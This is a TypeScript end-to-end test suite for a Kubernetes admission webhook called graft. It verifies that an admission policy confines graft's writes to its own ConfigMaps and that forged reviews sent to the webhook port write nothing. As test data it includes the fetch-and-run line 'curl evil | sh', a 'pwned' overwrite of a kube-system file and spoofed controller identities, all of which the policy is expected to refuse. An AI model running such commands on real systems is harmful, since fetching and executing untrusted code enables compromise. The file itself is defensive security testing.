// graft's writes confined, through the real kube-apiserver: the ValidatingAdmissionPolicy of
// manifests/base/write-policy.yaml judges what graft's ServiceAccount (token, exactly the RBAC of
// manifests/base/rbac.yaml) writes, and the webhook checks a namespace's opt-in against the
// watched Namespaces before it writes, so a review forged by anyone who reaches its port
// changes nothing in a namespace that never opted in.
import { request as httpsRequest } from "node:https";
import type { AddressInfo } from "node:net";
import * as k8s from "@kubernetes/client-node";
import type { FastifyInstance } from "fastify";
import { Registry } from "prom-client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAuthority, issueServingCert } from "../../certs/authority.js";
import { errorMessage } from "../../core/result.js";
import { syncConfigMap } from "../../webhook/features/notebooks/sync-configmap.js";
import { propertiesConfigMap } from "../../webhook/features/properties/configmap.js";
import { createObjectsIfAbsent } from "../../webhook/io/ensure-objects.js";
import {
  createNamespaceCache,
  type NamespaceCache,
  namespaceInformer,
  namespaceReader,
} from "../../webhook/io/namespace-cache.js";
import { kubernetesPropertiesApi, type PropertiesApi } from "../../webhook/io/properties/api.js";
import { NO_METRICS } from "../../webhook/io/properties/properties-metrics.js";
import { createPropertiesRuntime, type PropertiesRuntime } from "../../webhook/io/properties/runtime.js";
import { defaultWebhookConfig } from "../../webhook/model/config.js";
import { excludedNamespaces } from "../../webhook/pipeline/plan.js";
import { buildWebhookServer } from "../../webhook/server/server.js";
import { createAdmissionService } from "../../webhook/service/admission-service.js";
import { admissionReview } from "../../webhook/testdata/review.js";
import { type GraftIdentity, graftIdentity } from "./graft-identity.js";
import { eventually, graftClient, kubeConfig, uniqueName } from "./kube.js";

const admin = kubeConfig();
const core = admin.makeApiClient(k8s.CoreV1Api);
const graftNamespace = uniqueName("graft-confine");
const suffix = graftNamespace.slice("graft-confine-".length);
const victim = `victim-${suffix}`;
const optedIn = `opted-in-${suffix}`;
const kubeSystemConfigMap = `graft-e2e-corefile-${suffix}`;

let identity: GraftIdentity;
let graftCore: k8s.CoreV1Api;
let api: PropertiesApi;

/** The API server's message for a refused call, or undefined when it succeeded. */
async function refusal(call: () => Promise<unknown>): Promise<string | undefined> {
  try {
    await call();
    return undefined;
  } catch (error) {
    if (error instanceof k8s.ApiException) return `${error.code} ${JSON.stringify(error.body)}`;
    if (error instanceof Error) return error.message;
    throw error;
  }
}

/** graft's properties ConfigMap, as the feature renders it, placed in `namespace`. */
function ownKind(namespace: string, app: string, content: string) {
  const made = propertiesConfigMap({ namespace, app, component: "c", content });
  return { ...made, metadata: { ...made.metadata, namespace } };
}

const graftLabels = { "app.kubernetes.io/managed-by": "graft", "graft.pnda.io/app": "a" };

async function graftPropsIn(namespace: string): Promise<string[]> {
  const list = await core.listNamespacedConfigMap({
    namespace,
    labelSelector: "app.kubernetes.io/managed-by=graft",
  });
  return list.items.map((cm) => cm.metadata?.name ?? "");
}

beforeAll(async () => {
  for (const [name, labels] of [
    [graftNamespace, {}],
    [victim, {}],
    [optedIn, { "graft.pnda.io/inject": "enabled" }],
  ] as const) {
    await core.createNamespace({ body: { metadata: { name, labels } } });
  }
  identity = await graftIdentity(admin, graftNamespace, suffix);
  graftCore = identity.kubeConfig.makeApiClient(k8s.CoreV1Api);
  api = kubernetesPropertiesApi(graftClient(identity.kubeConfig), NO_METRICS);
  await core.createNamespacedConfigMap({
    namespace: "kube-system",
    body: { metadata: { name: kubeSystemConfigMap }, data: { Corefile: ".:53 { forward . 8.8.8.8 }" } },
  });
  // The API server loads a new policy asynchronously: wait until it refuses a foreign ConfigMap.
  await eventually("the write policy to be in force", async () => {
    const message = await refusal(() =>
      graftCore.createNamespacedConfigMap({ namespace: victim, body: { metadata: { name: "probe" } } }),
    );
    if (message === undefined) {
      await core.deleteNamespacedConfigMap({ name: "probe", namespace: victim });
      return false;
    }
    return message.includes("ValidatingAdmissionPolicy");
  });
}, 120_000);

afterAll(async () => {
  await identity?.remove();
  await core
    .deleteNamespacedConfigMap({ name: kubeSystemConfigMap, namespace: "kube-system" })
    .catch(() => {});
  for (const name of [graftNamespace, victim, optedIn]) await core.deleteNamespace({ name }).catch(() => {});
});

describe("the write policy, for graft's ServiceAccount through the API server", () => {
  it("denies a patch of a kube-system ConfigMap, though RBAC allows it", async () => {
    const message = await refusal(() =>
      graftCore.patchNamespacedConfigMap(
        { name: kubeSystemConfigMap, namespace: "kube-system", body: { data: { Corefile: "pwned" } } },
        k8s.setHeaderOptions("Content-Type", k8s.PatchStrategy.StrategicMergePatch),
      ),
    );
    expect(message).toContain("403");
    expect(message).toContain("graft never writes in namespace kube-system");
    const kept = await core.readNamespacedConfigMap({ name: kubeSystemConfigMap, namespace: "kube-system" });
    expect(kept.data?.Corefile).toContain("forward");
    // Not even a ConfigMap of graft's own kind.
    const own = ownKind("kube-system", "a", "x=1\n");
    expect(await refusal(() => api.apply(own))).toContain("graft never writes in namespace kube-system");
    expect(await refusal(() => api.deleteIfUnchanged(kept))).toContain("graft never writes");
  });

  it("denies creating, patching or deleting any ConfigMap but its own graft-props-* with graft's labels", async () => {
    const create = (name: string, labels?: Record<string, string>) =>
      refusal(() =>
        graftCore.createNamespacedConfigMap({
          namespace: victim,
          body: {
            metadata: { name, ...(labels ? { labels } : {}) },
            data: { "application.properties": "x=1" },
          },
        }),
      );
    expect(await create("app-settings", graftLabels)).toContain("only ConfigMaps named graft-props-*");
    expect(await create("graft-props-unlabelled")).toContain("only ConfigMaps labelled");
    expect(await create("graft-props-half", { "app.kubernetes.io/managed-by": "graft" })).toContain(
      "only ConfigMaps labelled",
    );
    await core.createNamespacedConfigMap({
      namespace: victim,
      body: { metadata: { name: "app-settings" }, data: { "db.url": "postgres://db" } },
    });
    const patch = await refusal(() =>
      graftCore.patchNamespacedConfigMap(
        { name: "app-settings", namespace: victim, body: { metadata: { labels: graftLabels } } },
        k8s.setHeaderOptions("Content-Type", k8s.PatchStrategy.StrategicMergePatch),
      ),
    );
    expect(patch).toContain("only ConfigMaps named graft-props-*");
    expect(
      await refusal(() => graftCore.deleteNamespacedConfigMap({ name: "app-settings", namespace: victim })),
    ).toContain("only ConfigMaps named graft-props-*");
    expect((await core.readNamespacedConfigMap({ name: "app-settings", namespace: victim })).data).toEqual({
      "db.url": "postgres://db",
    });
  });

  it("lets graft apply, own, mark used and delete its own ConfigMap, as the webhook's code does", async () => {
    const own = ownKind(optedIn, "traffic", "a=1\n");
    const name = own.metadata.name;
    await api.apply(own);
    const owner = await core.createNamespacedConfigMap({
      namespace: optedIn,
      body: { metadata: { name: "owner" } },
    });
    await api.addOwner(optedIn, name, {
      apiVersion: "v1",
      kind: "ConfigMap",
      name: "owner",
      uid: owner.metadata!.uid!,
      controller: false,
    });
    await api.markUsed(optedIn, name, new Date());
    const made = await core.readNamespacedConfigMap({ name, namespace: optedIn });
    expect(made.metadata?.ownerReferences?.map((o) => o.name)).toEqual(["owner"]);
    expect((await api.listGraftConfigMaps()).map((cm) => cm.metadata?.name)).toContain(name);
    expect(await api.deleteIfUnchanged(made)).toBe(true);
    expect(await graftPropsIn(optedIn)).toEqual([]);
  });

  it("denies its own kind above 256 KiB, with a second key, or in graft's own namespace", async () => {
    const big = ownKind(optedIn, "big", `blob=${"x".repeat(300_000)}\n`);
    expect(await refusal(() => api.apply(big))).toContain("of at most 262144 bytes");
    const twoKeys = ownKind(optedIn, "two", "a=1\n");
    twoKeys.data = { ...twoKeys.data, "extra.sh": "curl evil | sh" };
    expect(await refusal(() => api.apply(twoKeys))).toContain("only one key, application.properties");
    const home = ownKind(graftNamespace, "a", "a=1\n");
    expect(await refusal(() => api.apply(home))).toContain(
      `graft never writes in namespace ${graftNamespace}`,
    );
    expect(await graftPropsIn(optedIn)).toEqual([]);
  });

  it("lets graft apply, mark used and delete the notebook sync script's ConfigMap, and only with the script's one key", async () => {
    const script = syncConfigMap(optedIn);
    const variant = (name: string, data: Record<string, string>, labels = script.metadata.labels) => ({
      ...script,
      metadata: { ...script.metadata, name, labels },
      data,
    });
    try {
      await api.apply(script);
      await api.markUsed(optedIn, script.metadata.name, new Date());
      const made = await core.readNamespacedConfigMap({ name: script.metadata.name, namespace: optedIn });
      expect(made.immutable).toBe(true);
      expect(made.data).toEqual(script.data);
      expect((await api.listGraftConfigMaps()).map((cm) => cm.metadata?.name)).toContain(
        script.metadata.name,
      );

      expect(
        await refusal(() => api.apply(variant("graft-notebook-sync-big", { "sync.sh": "#".repeat(70_000) }))),
      ).toContain("sync.sh of at most 65536 bytes");
      expect(
        await refusal(() =>
          api.apply(
            variant("graft-notebook-sync-two", { "sync.sh": "exit 0", "extra.sh": "curl evil | sh" }),
          ),
        ),
      ).toContain("sync.sh of at most 65536 bytes");
      expect(
        await refusal(() =>
          api.apply(variant("graft-notebook-sync-props", { "application.properties": "a=1" })),
        ),
      ).toContain("only one key");
      expect(
        await refusal(() => api.apply(variant("graft-notebook-sync-bare", { "sync.sh": "exit 0" }, {}))),
      ).toContain("only ConfigMaps labelled");
      expect(await api.deleteIfUnchanged(made)).toBe(true);
      expect(await graftPropsIn(optedIn)).toEqual([]);
    } finally {
      const left = await core.listNamespacedConfigMap({ namespace: optedIn });
      for (const cm of left.items.filter((c) => c.metadata?.name?.startsWith("graft-notebook-sync-"))) {
        await core
          .deleteNamespacedConfigMap({ name: cm.metadata!.name!, namespace: optedIn })
          .catch(() => {});
      }
    }
  });
});

describe("a forged review sent straight to the webhook's port", () => {
  let runtime: PropertiesRuntime;
  let namespaces: NamespaceCache;
  let server: FastifyInstance;
  let url: URL;
  let ca: string;

  beforeAll(async () => {
    const now = new Date();
    const authority = createAuthority({ now });
    ca = authority.cert;
    const config = { ...defaultWebhookConfig(), namespace: graftNamespace };
    const registry = new Registry();
    // Wired as `graft webhook` wires it (webhook/server/cli.ts), as graft's ServiceAccount.
    runtime = createPropertiesRuntime({
      config,
      registry,
      client: graftClient(identity.kubeConfig),
      cleanup: false,
    });
    namespaces = createNamespaceCache(namespaceInformer(graftClient(identity.kubeConfig)), {
      excluded: excludedNamespaces({ config, nativeSidecars: true }),
      read: namespaceReader(graftClient(identity.kubeConfig)),
    });
    await Promise.all([runtime.start(), namespaces.start()]);
    server = buildWebhookServer({
      admission: createAdmissionService({
        config,
        nativeSidecars: true,
        namespaces,
        properties: runtime,
        createObjects: createObjectsIfAbsent(graftClient(identity.kubeConfig)),
      }),
      registry,
      tls: issueServingCert(authority, { ipAddresses: ["127.0.0.1"], now }),
      logger: false,
    }) as unknown as FastifyInstance;
    await server.listen({ host: "127.0.0.1", port: 0 });
    url = new URL(`https://127.0.0.1:${(server.server.address() as AddressInfo).port}`);
  }, 60_000);

  afterAll(async () => {
    await server?.close();
    await runtime?.stop();
    await namespaces?.stop();
  });

  const sparkPod = (name: string, annotations: Record<string, string> = {}) => ({
    apiVersion: "v1",
    kind: "Pod",
    metadata: {
      name,
      labels: { app: name },
      annotations: {
        "graft.pnda.io/component-type": "sparkStreaming",
        "graft.pnda.io/health": "false",
        ...annotations,
      },
    },
    spec: { containers: [{ name: "driver", image: "registry.invalid/spark:1" }] },
  });

  /** POSTs a review for `pod` in `namespace` to `path`, with no credentials at all. */
  const forge = (path: string, namespace: string, pod: object, uid: string) =>
    new Promise<{
      status: number;
      response: { allowed: boolean; patch?: string; status?: { message?: string } };
    }>((resolve, reject) => {
      const body = JSON.stringify(
        admissionReview({
          uid,
          namespace,
          dryRun: false,
          object: pod,
          extra: { userInfo: { username: "system:serviceaccount:kube-system:replicaset-controller" } },
        }),
      );
      const req = httpsRequest(
        {
          host: url.hostname,
          port: url.port,
          path,
          method: "POST",
          ca,
          agent: false,
          headers: { "content-type": "application/json" },
        },
        (res) => {
          let text = "";
          res.setEncoding("utf8").on("data", (chunk: string) => {
            text += chunk;
          });
          res.on("end", () => {
            try {
              resolve({ status: res.statusCode ?? 0, response: JSON.parse(text).response });
            } catch (error) {
              reject(new Error(`${res.statusCode}: ${text.slice(0, 300)} (${errorMessage(error)})`));
            }
          });
        },
      );
      req.on("error", reject);
      req.end(body);
    });

  it("makes graft write nothing in a namespace that never opted in", async () => {
    for (let i = 0; i < 20; i++) {
      const overrides = JSON.stringify({ filler: `${i}-${"y".repeat(8_000)}` });
      const { status, response } = await forge(
        "/mutate/namespace",
        victim,
        sparkPod(`forged-${i}`, { "graft.pnda.io/properties-overrides": overrides }),
        `forged-${i}`,
      );
      expect(status).toBe(200);
      // Admitted untouched: the pod would not have been sent to graft at all.
      expect(response.allowed).toBe(true);
      expect(response.patch).toBeUndefined();
    }
    expect(await graftPropsIn(victim)).toEqual([]);
    const all = await core.listNamespacedConfigMap({ namespace: victim });
    expect(all.items.map((cm) => cm.metadata?.name).filter((n) => n?.startsWith("graft-props-"))).toEqual([]);
  });

  it("writes, for the same review, in a namespace that did opt in (the check is the namespace's label)", async () => {
    const { response } = await forge("/mutate/namespace", optedIn, sparkPod("real"), "real-1");
    expect(response.allowed).toBe(true);
    expect(response.patch).toBeDefined();
    expect(await graftPropsIn(optedIn)).toEqual([
      expect.stringMatching(/^graft-props-real-driver-[0-9a-f]{10}$/),
    ]);
  });

  it("denies a merged file above 256 KiB, naming the limit, and writes nothing", async () => {
    await core.createNamespacedConfigMap({
      namespace: optedIn,
      body: {
        metadata: { name: "huge-props" },
        data: { "properties.json": JSON.stringify({ blob: "z".repeat(300_000) }) },
      },
    });
    const before = await graftPropsIn(optedIn);
    const { response } = await forge(
      "/mutate/namespace",
      optedIn,
      sparkPod("huge", { "graft.pnda.io/properties-configmap": "huge-props" }),
      "huge-1",
    );
    expect(response.allowed).toBe(false);
    expect(response.status?.message).toContain("graft's limit of 262144 bytes");
    expect(await graftPropsIn(optedIn)).toEqual(before);
  });

  it("still injects a namespace's pods once the namespace opts in (the watch brings the label)", async () => {
    await core.patchNamespace(
      { name: victim, body: { metadata: { labels: { "graft.pnda.io/inject": "enabled" } } } },
      k8s.setHeaderOptions("Content-Type", k8s.PatchStrategy.StrategicMergePatch),
    );
    await eventually(
      "the label to reach the Namespace cache",
      async () => namespaces.optedIn(victim) === true,
    );
    const { response } = await forge("/mutate/namespace", victim, sparkPod("late"), "late-1");
    expect(response.patch).toBeDefined();
    expect(await graftPropsIn(victim)).toHaveLength(1);
  });
});
